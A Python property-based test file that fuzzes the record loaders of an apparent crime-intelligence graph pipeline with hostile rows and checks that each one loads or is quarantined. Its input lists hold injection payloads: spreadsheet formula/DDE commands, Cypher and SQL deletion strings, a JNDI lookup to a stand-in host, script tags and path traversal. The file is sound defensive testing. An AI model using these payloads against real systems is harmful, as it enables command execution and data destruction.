"""Hostile rows: every source loads a record or quarantines it, and never raises.

The issue's acceptance point: random and hostile rows (huge fields, control characters and NUL,
formula injection such as ``=cmd|...``, Cypher-looking text, wrong types) fed to every row
model are each loaded or quarantined, never an uncaught exception. The records go through the
pipeline's own per-record path: ``source.skip`` (when the source has one), then
``loaders.pipeline._load_record`` with a fresh row context, exactly as ``_FileLoad.record``
calls them.

Records look like what ``loaders.read`` hands over: for a table source a dict of stripped,
lower-case column names to values (CSV gives strings, XLSX str/int/float/bool/datetime/None,
JSON lines any JSON value); for the PSC records source the parsed JSON object of one line.
"""

from __future__ import annotations

import datetime as dt
import functools
import math
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel

from loaders.base import GraphRow, RowContext, Source
from loaders.pipeline import _load_record
from loaders.psc import INDIVIDUAL_KINDS, SKIPPED_KINDS
from loaders.read import Record
from loaders.sources import sources
from ocgmap.resolve import HaulierIndex
from ocgmap.schema import load_bands
from ocgmap.schema.labels import Label
from ocgmap.schema.models import EdgeRow, NodeRow, SourceRef

SOURCES: dict[str, Source] = sources()
NAMES: list[str] = list(SOURCES)
TABLES: list[str] = [name for name, source in SOURCES.items() if source.kind == "table"]


def _settings(max_examples: int) -> settings:
    return settings(
        max_examples=max_examples,
        deadline=None,
        database=None,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )


# --------------------------------------------------------------------------------------------
# Columns of the row models and what kind of value each holds
# --------------------------------------------------------------------------------------------


def columns(model: type[BaseModel]) -> list[str]:
    """The column names a row model reads: each field's alias when set, else its name."""
    return list(dict.fromkeys(f.alias or name for name, f in model.model_fields.items()))


def required_columns(model: type[BaseModel]) -> set[str]:
    return {f.alias or name for name, f in model.model_fields.items() if f.is_required()}


def field_names(model: type[BaseModel]) -> list[str]:
    """Python field names that differ from their alias (``populate_by_name`` accepts them)."""
    return [name for name, f in model.model_fields.items() if f.alias and f.alias != name]


#: The kind of value a column holds, where it is not free text; a tuple is a set of codes.
KINDS: dict[str, dict[str, str | tuple[str, ...]]] = {
    "companies_house": {
        "companyname": "company",
        "companynumber": "company_number",
        "regaddress.addressline1": "address",
        "regaddress.addressline2": "address",
        "regaddress.posttown": "town",
        "regaddress.postcode": "lenient_postcode",
        "incorporationdate": "date",
        "dissolutiondate": "date",
        "siccode.sictext_1": "sic",
        "siccode.sictext_2": "sic",
        **{f"previousname_{n}.companyname": "company" for n in range(1, 11)},
    },
    "operator_licences": {
        "licence number": "licence",
        "operator name": "company",
        "trading name": "company",
        "licence type": ("RESTRICTED", "STANDARD NATIONAL", "STANDARD INTERNATIONAL"),
        "correspondence address": "address",
        "correspondence postcode": "postcode",
        "vehicles authorised": "count",
        "trailers authorised": "count",
    },
    "ocgm": {
        "ocg_ref": "ref",
        "band": tuple(load_bands().codes),
        "graded_on": "date",
        "member_type": ("PERSON", "VEHICLE", "TRAILER", "HAULIER", "PHONE", "ADDRESS"),
        "member_value": "name",
        "member_dob": "date",
        "role": ("PRINCIPAL", "SIGNIFICANT", "PERIPHERAL", "ASSET"),
    },
    "detections": {
        "detection_ref": "ref",
        "detected_at": "timestamp",
        "location_type": ("PORT", "INLAND", "SERVICES", "LORRY_PARK", "OTHER"),
        "port_locode": "locode",
        "vrm": "vrm",
        "vehicle_country": "country",
        "trailer_id": "trailer",
        "trailer_type": ("HARD", "SOFT", "REFRIGERATED", "CONTAINER", "TANKER", "FLATBED"),
        "haulier_name": "company",
        "haulier_country": "country",
        "operator_licence": "licence",
        "driver_name": "name",
        "driver_dob": "date",
        "driver_nationality": "country",
        "driver_phone": "phone",
        "route_from": "locode",
        "route_to": "locode",
        "entrants_count": "count",
        "entrants_minors": "count",
        "penalty_gbp": "money",
    },
    "crossings": {
        "booking_ref": "ref",
        "crossed_at": "timestamp",
        "dep_locode": "locode",
        "arr_locode": "locode",
        "vrm": "vrm",
        "trailer_id": "trailer",
        "haulier_name": "company",
        "driver_name": "name",
        "booking_phone": "phone",
    },
    "referrals": {
        "referral_ref": "ref",
        "reported_at": "timestamp",
        "intel_submitted": ("Y", "N"),
        "source_evaluation": ("1", "2", "3"),
        "intel_assessment": ("A", "B", "C", "D", "E"),
        "handling_code": ("P", "C"),
        "subject_type": (
            "PERSON",
            "VEHICLE",
            "TRAILER",
            "HAULIER",
            "PHONE",
            "ADDRESS",
            "LOCATION",
            "PORT",
        ),
        "subject_value": "name",
        "subject_dob": "date",
        "detection_ref": "ref",
    },
    "anpr": {
        "read_id": "ref",
        "vrm": "vrm",
        "read_at": "timestamp",
        "camera_id": "ref",
        "lat": "lat",
        "lon": "lon",
        "direction": ("NB", "SB", "EB", "WB"),
    },
    "calls": {
        "call_id": "ref",
        "from_number": "phone",
        "to_number": "phone",
        "started_at": "timestamp",
        "duration_s": "count",
        "kind": ("CALL", "SMS"),
    },
    "subscribers": {
        "number": "phone",
        "person_name": "name",
        "person_dob": "date",
        "address": "address",
        "postcode": "postcode",
        "attributed_at": "date",
    },
}

#: Kinds checked by an identifier normaliser through ``loaders.types._required``.
IDENTIFIER_KINDS = frozenset(
    {"vrm", "trailer", "phone", "locode", "postcode", "country", "company_number", "licence"}
)

#: Type column -> value column: a valid value is drawn for the kind the type names.
PAIRED: dict[str, tuple[str, str]] = {
    "referrals": ("subject_type", "subject_value"),
    "ocgm": ("member_type", "member_value"),
}
SUBJECT_VALUE_KINDS: dict[str, str] = {
    "PERSON": "name",
    "VEHICLE": "vrm",
    "TRAILER": "trailer",
    "HAULIER": "company",
    "PHONE": "phone",
    "ADDRESS": "address",
    "LOCATION": "town",
    "PORT": "locode",
}


def kind_of(name: str, column: str) -> str | tuple[str, ...]:
    return KINDS.get(name, {}).get(column, "text")


def _identifier_columns() -> frozenset[str]:
    """Column names (aliases and field names) that some table source checks as identifiers."""
    found = set()
    for name in TABLES:
        model = SOURCES[name].model
        for field, info in model.model_fields.items():
            alias = info.alias or field
            if kind_of(name, alias) in IDENTIFIER_KINDS:
                found |= {alias, field}
    return frozenset(found | {"company_number"})


IDENTIFIER_COLUMNS = _identifier_columns()

#: A date or datetime in an identifier column (an XLSX cell Excel turned into a date) once
#: raised AttributeError; it is now quarantined, and every test draws dates everywhere.
IDENTIFIER_DATE_BUG = False


def _dates_allowed(column: str) -> bool:
    return not (IDENTIFIER_DATE_BUG and column in IDENTIFIER_COLUMNS)


# --------------------------------------------------------------------------------------------
# Values: valid-looking ones per kind, and hostile ones
# --------------------------------------------------------------------------------------------

NAMES_TEXT = ["Jan Nowak", "Anna Kowalska", "Ion Popescu", "Mr John Smith", "Zoë O'Neill"]
COMPANIES = ["ACME HAULAGE LTD", "Nowak Transport Sp. z o.o.", "Dover Freight Limited"]
XLSX_MOMENTS = st.datetimes(min_value=dt.datetime(1990, 1, 1), max_value=dt.datetime(2030, 1, 1))

VALID: dict[str, st.SearchStrategy[Any]] = {
    "text": st.sampled_from(["Border Force", "rear of trailer", "Kent Police", "A20 Dover"])
    | st.text(min_size=1, max_size=30),
    "name": st.sampled_from(NAMES_TEXT),
    "company": st.sampled_from(COMPANIES),
    "address": st.sampled_from(["Unit 4, Dock Road", "1 High Street, Dover", "ul. Portowa 7"]),
    "town": st.sampled_from(["DOVER", "Folkestone", "Calais services"]),
    "sic": st.sampled_from(["49410 - Freight transport by road", "None Supplied"]),
    "ref": st.from_regex(r"[A-Z]{2,4}-20[0-9]{2}-[0-9]{4}", fullmatch=True),
    "timestamp": st.sampled_from(
        [
            "2025-03-01T02:14:00",
            "2025-03-01T02:14:00Z",
            "01/03/2025 02:14",
            "2025-07-01 23:30+01:00",
        ]
    )
    | XLSX_MOMENTS,
    "date": st.sampled_from(["1980-05-17", "17/05/1980"])
    | st.dates(min_value=dt.date(1930, 1, 1), max_value=dt.date(2025, 1, 1))
    | XLSX_MOMENTS,
    "count": st.integers(0, 60) | st.integers(0, 60).map(str) | st.integers(0, 60).map(float),
    "money": st.floats(0, 1e6) | st.sampled_from(["1500", "1500.50", 250]),
    "lat": st.floats(-90, 90) | st.just("51.1279"),
    "lon": st.floats(-180, 180) | st.just("1.3134"),
    "vrm": st.sampled_from(["AB12 CDE", "ab12cde", "KX-123-AB", "WX 66 ABC"]),
    "trailer": st.sampled_from(["C123", "TRL 4567", "ABCU1234567"]),
    "phone": st.sampled_from(["07700 900123", "+44 7700 900124", "+48 601 234 567", 447700900125]),
    "locode": st.sampled_from(["GBDVR", "FRCQF", "NLRTM", "GB DVR", "BEZEE"]),
    "postcode": st.sampled_from(["CT16 1AA", "ct161aa", "SW1A 1AA"]),
    "lenient_postcode": st.sampled_from(["CT16 1AA", "75008", "00-001", "D02 X285"]),
    "country": st.sampled_from(["GB", "Poland", "PL", "POL", "Romania"]),
    "company_number": st.sampled_from(["09145694", "SC123456", "OE012345", 9145694]),
    "licence": st.sampled_from(["OB1234567", "OK 1234567", "oc-7654321"]),
}


@functools.cache
def valid_value(kind: str | tuple[str, ...]) -> st.SearchStrategy[Any]:
    if isinstance(kind, tuple):
        return st.sampled_from(kind) | st.sampled_from(kind).map(lambda c: f" {c.lower()} ")
    return VALID[kind]


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://example.invalid/x","click")',
    "\t=1+1",
    "=1+1\r\n",
    'DDE("cmd";"/C calc";"!A0")',
]
INJECTIONS = [
    "'); MATCH (n) DETACH DELETE n //",
    '"}) MATCH (n) DETACH DELETE n //',
    "` DETACH DELETE n //",
    "$key",
    "'; DROP TABLE detections; --",
    "1 OR 1=1",
    "${jndi:ldap://example.invalid/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "{{7*7}}",
    "\\N",
    "NULL",
    "None",
    "nan",
    "-inf",
]
CONTROLS = [
    "\x00",
    "\x00" * 8,
    "AB12\x00CDE",
    "\r\n",
    "\x1b[31mred\x1b[0m",
    "\x7f",
    "\x85",
    "\u2028\u2029",
    "\x0b\x0c",
    "\ufeff",
    "\x08\x08\x08",
]
UNICODE = [
    "\u202eevil\u202c",
    "\u200fabc\u200e",
    "🚛🇬🇧👨‍👩‍👧",
    "e\u0301\u0301\u0301\u0301",
    "\u200b",
    "Ａ Ｂ１２ ＣＤＥ",
    "\ud800",
    "ǅ ß İ ﬁ",
    "\U0010ffff",
    "٠١٢٣",
    "²³",
    "Ⅻ",
]
ODD_MOMENTS = [
    "0001-01-01T00:00:00",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59",
    "9999-12-31T23:59:59-23:59",
    "31/12/9999 23:59",
    "2025-02-30",
    "30/02/2025",
    "2025-03-30T01:30:00",
    "2025-10-26T01:30:00",
    "2025-03-01T24:00:00",
    "99/99/9999",
    "1e400",
    "9" * 5000,
]
HUGE_PIECES = ["A", "=", "\x00", "é", "🚛", " ", "AB12 CDE ", "9", "\u0301"]


def _huge(piece: str, size: int) -> str:
    return (piece * (size // len(piece) + 1))[:size]


huge_text = st.builds(_huge, st.sampled_from(HUGE_PIECES), st.integers(4_990, 100_000))
odd_text = st.text(
    alphabet=st.characters(categories=["Cc", "Cf", "Mn", "Zs", "Zl", "Zp", "So", "Nd", "No"]),
    max_size=20,
)
hostile_text = st.one_of(
    st.sampled_from(FORMULAS + INJECTIONS + CONTROLS + UNICODE + ODD_MOMENTS),
    odd_text,
    st.text(max_size=40),
    huge_text,
)
numbers = st.one_of(
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([0, -1, 2**63, -(2**63) - 1, 10**30, -0.0, 1e308, math.nan, math.inf]),
)
json_scalars = st.one_of(st.none(), st.booleans(), numbers, hostile_text)
_nested = st.recursive(
    json_scalars,
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.text(max_size=8).filter(lambda k: k not in IDENTIFIER_COLUMNS), inner)
    ),
    max_leaves=6,
)
containers = st.lists(_nested, max_size=3) | st.dictionaries(
    st.text(max_size=8).filter(lambda k: k not in IDENTIFIER_COLUMNS), _nested, max_size=3
)
#: Date and time objects as XLSX gives them (naive; times and durations for time cells).
date_objects = st.one_of(
    st.datetimes(),
    st.dates(),
    st.times(),
    st.timedeltas(),
    st.sampled_from([dt.datetime.min, dt.datetime.max, dt.date.min, dt.date.max]),
)
#: Anything a JSON line can hold.
json_values = st.one_of(json_scalars, containers)


@functools.cache
def hostile_value(dates: bool = True) -> st.SearchStrategy[Any]:
    """A hostile value: odd text, numbers of every sort, booleans, None, containers, dates."""
    options = [hostile_text, hostile_text, numbers, st.booleans(), st.none(), containers]
    if dates:
        options.append(date_objects)
    return st.one_of(options)


@functools.cache
def spoiled(valid: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """A valid-looking value with hostile text stuck before or after it."""

    def join(parts: tuple[Any, str, bool]) -> Any:
        value, junk, before = parts
        if not isinstance(value, str):
            return junk
        return junk + value if before else value + junk

    return st.tuples(valid, hostile_text, st.booleans()).map(join)


HOSTILE_KEYS = [
    "",
    " ",
    "__class__",
    "__dict__",
    "__init__",
    "__pydantic_extra__",
    "__pydantic_fields_set__",
    "model_config",
    "model_fields",
    "model_extra",
    "extras",
    "data",
    "=cmd|' /c calc'!a0",
    "\x00",
    "🚛",
    "a" * 1000,
]
ALL_COLUMNS = sorted({c for source in SOURCES.values() for c in columns(source.model)})

#: How a column is filled in each mode, for required and optional columns.
PLAN: dict[str, dict[bool, tuple[str, ...]]] = {
    "clean": {True: ("valid",) * 9 + ("missing",), False: ("valid", "valid", "missing")},
    "mixed": {
        True: ("valid",) * 4 + ("spoiled", "hostile", "missing"),
        False: ("valid", "spoiled", "hostile", "missing", "missing"),
    },
    "hostile": {
        True: ("hostile", "hostile", "spoiled", "valid", "missing"),
        False: ("hostile", "hostile", "spoiled", "missing"),
    },
}


@functools.cache
def plan(mode: str, required: bool) -> st.SearchStrategy[str]:
    """How one column (or nested PSC field) is filled in a record drawn in ``mode``."""
    return st.sampled_from(PLAN[mode][required])


MODES = st.sampled_from(list(PLAN))


def _table_key(key: str) -> str:
    """A column name as the reader hands it over: stripped and lower-cased."""
    return key.strip().lower()


@functools.cache
def _extra_keys(name: str) -> st.SearchStrategy[list[str]]:
    return st.lists(
        st.sampled_from(HOSTILE_KEYS)
        | st.sampled_from(ALL_COLUMNS + field_names(SOURCES[name].model))
        | st.text(max_size=20),
        max_size=3,
    )


@st.composite
def extra_columns(draw: st.DrawFn, name: str) -> dict[str, Any]:
    """Columns the model does not define (kept as extras): odd names, odd values."""
    keys = draw(_extra_keys(name))
    out = {}
    for key in keys:
        key = _table_key(key) if SOURCES[name].kind == "table" else key
        out[key] = draw(hostile_value(dates=_dates_allowed(key)), label=f"extra {key!r}")
    return out


@st.composite
def table_records(draw: st.DrawFn, name: str) -> dict[str, Any]:
    """A record of a table source: its own columns, valid, spoiled, hostile or missing."""
    model = SOURCES[name].model
    need = required_columns(model)
    mode = draw(MODES, label="mode")
    values: dict[str, Any] = {}
    for column in columns(model):
        how = draw(plan(mode, column in need), label=f"{column} is")
        if how == "missing":
            continue
        kind = kind_of(name, column)
        if name in PAIRED and column == PAIRED[name][1]:
            typed = str(values.get(PAIRED[name][0], "")).strip().upper()
            kind = SUBJECT_VALUE_KINDS.get(typed, kind)
        if how == "valid":
            strategy = valid_value(kind)
        elif how == "spoiled":
            strategy = spoiled(valid_value(kind))
        else:
            strategy = hostile_value(dates=_dates_allowed(column))
        values[column] = draw(strategy, label=column)
    for key, value in draw(extra_columns(name)).items():
        values.setdefault(key, value)
    return values


PSC_KINDS = list(INDIVIDUAL_KINDS)
PSC_OTHER_KINDS = [
    "individual-person-with-significant-control-statement",
    "Individual-Person-With-Significant-Control",
    "totals",
]
PSC_SKIPPED = [prefix + suffix for prefix, _ in SKIPPED_KINDS for suffix in ("", "x", "🚛")]


PSC_SHAPES = st.sampled_from(["nested", "nested", "nested", "flat", "skipped", "totals", "garbage"])
PSC_GARBAGE = st.dictionaries(st.sampled_from(HOSTILE_KEYS) | st.text(max_size=10), json_values)
#: Nested objects of a PSC line: their fields and valid-looking values.
PSC_OBJECTS: dict[str, dict[str, st.SearchStrategy[Any]]] = {
    "name_elements": {
        "title": st.sampled_from(["Mr", "Mrs", "Dr"]),
        "forename": st.sampled_from(["John", "Anna", "Ion"]),
        "middle_name": st.sampled_from(["Paul", "Maria"]),
        "surname": st.sampled_from(["Smith", "Nowak", "Popescu"]),
    },
    "date_of_birth": {"month": st.integers(1, 12), "year": st.integers(1930, 2005)},
    "address": {
        "premises": st.sampled_from(["Unit 4", "1"]),
        "address_line_1": st.sampled_from(["Dock Road", "High Street"]),
        "address_line_2": st.sampled_from(["Eastern Docks"]),
        "locality": st.sampled_from(["Dover", "Warszawa"]),
        "postal_code": st.sampled_from(["CT16 1AA", "00-001", "SW1A1AA"]),
        "country": st.sampled_from(["England", "Poland"]),
    },
    "links": {"self": st.just("/company/09145694/persons-with-significant-control/x")},
}
#: Plain fields of a PSC line's data: valid-looking values, and whether the model needs them.
PSC_FIELDS: dict[str, tuple[st.SearchStrategy[Any], bool]] = {
    "name": (st.sampled_from(NAMES_TEXT), True),
    "nationality": (st.sampled_from(["British", "Polish,British", "Romanian / British"]), False),
    "natures_of_control": (
        st.lists(
            st.sampled_from(["ownership-of-shares-75-to-100-percent", "voting-rights-25-to-50"])
            | hostile_text,
            max_size=3,
        ),
        False,
    ),
    "notified_on": (st.sampled_from(["2016-04-06", "2023-11-30"]), False),
    "ceased_on": (st.just("2024-01-31"), False),
    "etag": (st.text(max_size=12), False),
    "country_of_residence": (st.sampled_from(["England", "Poland"]), False),
}
PSC_KIND_VALUES = {
    "skipped": st.sampled_from(PSC_SKIPPED),
    "other": st.sampled_from(PSC_KINDS * 3 + PSC_OTHER_KINDS),
}


@st.composite
def psc_records(draw: st.DrawFn) -> dict[str, Any]:
    """One parsed PSC snapshot line: nested, flat, skipped kinds, totals, or garbage."""
    shape = draw(PSC_SHAPES, label="shape")
    if shape == "garbage":
        out = draw(PSC_GARBAGE)
        if draw(st.booleans()):
            out["data"] = draw(json_values, label="data")
        return out
    if shape == "totals":
        return {
            "data": {
                "kind": "totals#persons-of-significant-control-snapshot",
                "persons_of_significant_control_count": draw(json_values),
                "statements_count": draw(numbers),
            }
        }
    mode = draw(MODES, label="mode")

    def pick(valid: st.SearchStrategy[Any], required: bool = False) -> Any:
        how = draw(plan(mode, required))
        if how == "valid":
            return draw(valid)
        if how == "spoiled":
            return draw(spoiled(valid))
        if how == "hostile":
            return draw(json_values)
        return _MISSING

    def obj(name: str, required: bool = False) -> Any:
        how = draw(plan(mode, required))
        if how == "missing":
            return _MISSING
        if how == "hostile":
            return draw(json_values)
        fields = PSC_OBJECTS[name].items()
        return _present({key: pick(valid, required) for key, valid in fields})

    data = {"kind": pick(PSC_KIND_VALUES["skipped" if shape == "skipped" else "other"], True)}
    data |= {key: pick(valid, need) for key, (valid, need) in PSC_FIELDS.items()}
    data |= {key: obj(key, required=key == "date_of_birth") for key in PSC_OBJECTS}
    data = _present(data)
    number = pick(VALID["company_number"], required=True)
    if shape == "flat":
        return _present({"company_number": number, **data})
    return _present({"company_number": number, "data": data})


_MISSING = object()


def _present(values: dict[str, Any]) -> dict[str, Any]:
    return {key: value for key, value in values.items() if value is not _MISSING}


def records(name: str) -> st.SearchStrategy[dict[str, Any]]:
    """Records of one source as its reader hands them over."""
    return psc_records() if SOURCES[name].kind == "records" else table_records(name)


# --------------------------------------------------------------------------------------------
# The check: loaded (graph rows whose edges join nodes of the same row) or quarantined
# --------------------------------------------------------------------------------------------


def load(name: str, values: dict[str, Any]) -> tuple[list[GraphRow] | None, list[str], str]:
    """Run one record as ``_FileLoad.record`` does; check and return its outcome.

    Returns the graph rows (None when quarantined or skipped), the failing fields, the reason.
    """
    source = SOURCES[name]
    if source.skip is not None:
        why = source.skip(values)
        if why is not None:
            assert isinstance(why, str) and why, f"skip gave {why!r}"
            return None, [], why
    ctx = RowContext(SourceRef(load_id="H1", file="f.csv", row=2), values, HaulierIndex())
    out = _load_record(Record(row=2, values=values), source, None, ctx)
    assert isinstance(out, tuple) and len(out) == 4
    rows, fields, reason, extras = out
    assert isinstance(extras, dict)
    if rows is None:
        assert isinstance(reason, str) and reason.strip(), "a quarantined row needs a reason"
        assert fields and all(isinstance(f, str) for f in fields)
        return None, fields, reason
    assert isinstance(rows, list) and (fields, reason) == ([], "")
    assert all(isinstance(row, (NodeRow, EdgeRow)) for row in rows)
    assert any(isinstance(row, NodeRow) for row in rows), "a loaded row gives at least a node"
    refs = {row.ref for row in rows if isinstance(row, NodeRow)}
    for edge in (row for row in rows if isinstance(row, EdgeRow)):
        assert edge.start in refs, f"{edge.type} starts at {edge.start}, not a node of the row"
        assert edge.end in refs, f"{edge.type} ends at {edge.end}, not a node of the row"
    assert all(row.sources for row in rows)
    return rows, fields, reason


# --------------------------------------------------------------------------------------------
# Known-good rows: the strategies' valid values do load
# --------------------------------------------------------------------------------------------

GOOD: dict[str, dict[str, Any]] = {
    "companies_house": {
        "companyname": "ACME HAULAGE LTD",
        "companynumber": "09145694",
        "regaddress.addressline1": "Unit 4, Dock Road",
        "regaddress.posttown": "DOVER",
        "regaddress.postcode": "CT16 1AA",
    },
    "psc": {
        "company_number": "09145694",
        "data": {
            "kind": "individual-person-with-significant-control",
            "name": "Mr John Smith",
            "date_of_birth": {"month": 5, "year": 1980},
            "address": {"premises": "Unit 4", "locality": "Dover", "postal_code": "CT16 1AA"},
        },
    },
    "operator_licences": {
        "licence number": "OB1234567",
        "operator name": "ACME HAULAGE LTD",
        "correspondence address": "Unit 4, Dock Road",
        "correspondence postcode": "CT16 1AA",
    },
    "ocgm": {
        "ocg_ref": "OCG-2025-0001",
        "lead_agency": "NCA",
        "band": "1A",
        "graded_on": "2025-01-01",
        "member_type": "VEHICLE",
        "member_value": "AB12 CDE",
    },
    "detections": {
        "detection_ref": "BF-2025-0001",
        "detected_at": "2025-03-01T02:14:00",
        "location_type": "PORT",
        "port_locode": "GBDVR",
        "vrm": "AB12 CDE",
        "trailer_id": "C123",
        "haulier_name": "ACME HAULAGE LTD",
        "haulier_country": "GB",
        "driver_name": "Jan Nowak",
        "driver_phone": "07700 900123",
        "route_from": "FRCQF",
        "route_to": "GBDVR",
        "entrants_count": "4",
        "reporting_agency": "Border Force",
    },
    "crossings": {
        "booking_ref": "BK-2025-0001",
        "crossed_at": "2025-03-01T02:14:00",
        "dep_locode": "FRCQF",
        "arr_locode": "GBDVR",
        "vrm": "AB12 CDE",
        "trailer_id": "C123",
        "haulier_name": "ACME HAULAGE LTD",
        "driver_name": "Jan Nowak",
        "booking_phone": "07700 900123",
    },
    "referrals": {
        "referral_ref": "REF-2025-0001",
        "reported_at": "2025-03-01T02:14:00",
        "reporting_agency": "Kent Police",
        "source_evaluation": "1",
        "intel_assessment": "B",
        "handling_code": "P",
        "subject_type": "PHONE",
        "subject_value": "07700 900123",
        "detection_ref": "BF-2025-0001",
    },
    "anpr": {
        "read_id": "R-2025-0001",
        "vrm": "AB12 CDE",
        "read_at": "2025-03-01T02:14:00",
        "camera_id": "CAM-1",
        "lat": "51.1279",
        "lon": "1.3134",
    },
    "calls": {
        "call_id": "C-2025-0001",
        "from_number": "07700 900123",
        "to_number": "07700 900124",
        "started_at": "2025-03-01T02:14:00",
    },
    "subscribers": {
        "number": "07700 900123",
        "person_name": "Anna Kowalska",
        "address": "1 High Street, Dover",
        "postcode": "CT16 1AA",
        "source": "Provider subscriber check",
    },
}


def test_every_source_is_covered() -> None:
    assert set(GOOD) == set(NAMES)
    for name in TABLES:
        unknown = set(KINDS.get(name, {})) - set(columns(SOURCES[name].model))
        assert not unknown, f"{name}: KINDS names columns the model does not have: {unknown}"


@pytest.mark.parametrize("name", NAMES)
def test_known_good_row_loads(name: str) -> None:
    rows, _, reason = load(name, GOOD[name])
    assert rows is not None, reason


# --------------------------------------------------------------------------------------------
# The property: every record is loaded or quarantined
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
@given(data=st.data())
@_settings(50)
def test_hostile_rows_are_loaded_or_quarantined(name: str, data: st.DataObject) -> None:
    load(name, data.draw(records(name), label="values"))


def _nul(value: Any) -> Any:
    """The same shape with every leaf value a NUL character."""
    if isinstance(value, dict):
        return {key: _nul(inner) for key, inner in value.items()}
    return "\x00"


#: Every column of every source, and a PSC line's nested values, all NUL.
ALL_NUL = {
    **{column: "\x00" for column in ALL_COLUMNS},
    **_nul(GOOD["psc"]),
    "data": _nul({**GOOD["psc"]["data"], "name_elements": {"forename": 0, "surname": 0}}),
}


@pytest.mark.parametrize("name", NAMES)
@given(values=st.sampled_from(NAMES).flatmap(records))
@example(values=ALL_NUL)
@example(values={column: "\x00" * 100_000 for column in ALL_COLUMNS})
@example(values={column: None for column in ALL_COLUMNS})
@example(values={})
@_settings(15)
def test_any_sources_rows_are_loaded_or_quarantined(name: str, values: dict[str, Any]) -> None:
    """A file loaded as the wrong source (``--source``), and rows of nothing but NUL."""
    load(name, values)


# --------------------------------------------------------------------------------------------
# Detections: hostile text is data, kept verbatim; too long is quarantined with a reason
# --------------------------------------------------------------------------------------------

FORMULA_DRIVER = "=cmd|' /C calc'!A0"
FORMULA_DETECTION = {
    **GOOD["detections"],
    "driver_name": FORMULA_DRIVER,
    "notes": "+SUM(1,2)",
    "concealment": "-1+1",
    "penalty_ref": "@SUM(A1)",
    "location_name": "'); MATCH (n) DETACH DELETE n //",
}
HUGE_NOTES_DETECTION = {**GOOD["detections"], "notes": "N" * 100_000}
NUL_DETECTION = {column: "\x00" for column in columns(SOURCES["detections"].model)}

#: Free-text columns of a detection kept verbatim (after stripping) on the Detection node.
VERBATIM = ("notes", "concealment", "penalty_ref", "location_name")


@given(values=table_records("detections"), expect=st.just("either"))
@example(values=FORMULA_DETECTION, expect="loaded")
@example(values=HUGE_NOTES_DETECTION, expect="either")
@example(values=NUL_DETECTION, expect="quarantined")
@_settings(50)
def test_detection_text_is_kept_verbatim(values: dict[str, Any], expect: str) -> None:
    rows, fields, reason = load("detections", values)
    if rows is None:
        assert expect != "loaded", f"quarantined: {reason}"
        notes = values.get("notes")
        if isinstance(notes, str) and len(notes.strip()) > 5000:
            assert "notes" in fields and "5000" in reason, reason
        return
    assert expect != "quarantined"
    nodes = [row for row in rows if isinstance(row, NodeRow)]
    (detection,) = [n for n in nodes if n.label == Label.DETECTION]
    for column in VERBATIM:
        text = values.get(column)
        if isinstance(text, str) and text.strip():
            assert detection.properties[column] == text.strip()
    driver = values.get("driver_name")
    people = [n for n in nodes if n.label == Label.PERSON]
    if isinstance(driver, str) and driver.strip():
        (person,) = people
        assert person.properties["names"] == [driver.strip()]
    if expect == "loaded":
        assert people[0].properties["names"] == [FORMULA_DRIVER]
        assert detection.properties["notes"] == "+SUM(1,2)"


# --------------------------------------------------------------------------------------------
# Known bug: a date object in an identifier column escapes as AttributeError
# --------------------------------------------------------------------------------------------


def _date_bug_cases() -> list[Any]:
    """One table column per identifier kind (each kind is a different normaliser)."""
    first: dict[Any, tuple[str, str]] = {}
    for name in TABLES:
        for column in columns(SOURCES[name].model):
            first.setdefault(kind_of(name, column), (name, column))
    return [
        pytest.param(name, column, id=f"{kind}-{name}-{column}")
        for kind, (name, column) in first.items()
        if kind in IDENTIFIER_KINDS
    ]


DATE_BUG_CASES = _date_bug_cases()


@pytest.mark.parametrize(("name", "column"), DATE_BUG_CASES)
@given(moment=st.datetimes(min_value=dt.datetime(1990, 1, 1)) | st.dates())
@example(moment=dt.datetime(2025, 3, 1, 0, 0))
@_settings(5)
def test_date_in_identifier_column_is_quarantined(name: str, column: str, moment: dt.date) -> None:
    rows, _, reason = load(name, {**GOOD[name], column: moment})
    assert rows is None and "is a date" in reason
